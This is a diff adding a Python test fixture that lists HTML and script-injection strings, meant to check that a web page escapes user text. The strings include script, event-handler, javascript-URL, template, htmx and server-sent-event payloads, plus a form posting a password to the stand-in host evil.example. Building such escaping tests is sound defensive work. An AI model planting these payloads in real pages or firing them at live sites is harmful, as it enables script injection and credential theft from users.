@@ -1,0 +1,27 @@
+"""Texts that would run, or break out of where they stand, if a page did not escape them."""
+
+HOSTILE = (
+    "<script>window.pwned = 1</script>",
+    "<img src=x onerror=window.pwned=1>",
+    '"><svg onload=window.pwned=1>',
+    "' onmouseover='window.pwned=1",
+    "</textarea><script>window.pwned=1</script>",
+    "</title><script>window.pwned=1</script>",
+    "{{ 7 * 7 }}{% raw %}${7*7}#{7*7}",
+    "javascript:window.pwned=1",
+    '<a href="javascript:window.pwned=1">x</a>',
+    '<iframe srcdoc="<script>parent.pwned=1</script>">',
+    "<div hx-get=/people/persons hx-trigger=load>",
+    '<div hx-on:click="window.pwned=1" hx-sse:connect=/people/events/x>',
+    "<hx-partial hx-target=#main>x</hx-partial>",
+    "<style>*{background:url(/x)}</style>",
+    "<meta http-equiv=refresh content=0>",
+    "<form action=//evil.example><input name=password>",
+    "<!--<script>-->",
+    "\u003cscript\u003ewindow.pwned=1\u003c/script\u003e",
+    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
+    "data: x\n\nevent: message\ndata: <script>window.pwned=1</script>",
+    "<ScRiPt/src=data:,window.pwned=1>",
+    "＜script＞window.pwned=1＜/script＞",
+    "\u202e<script>\u202c",
+)
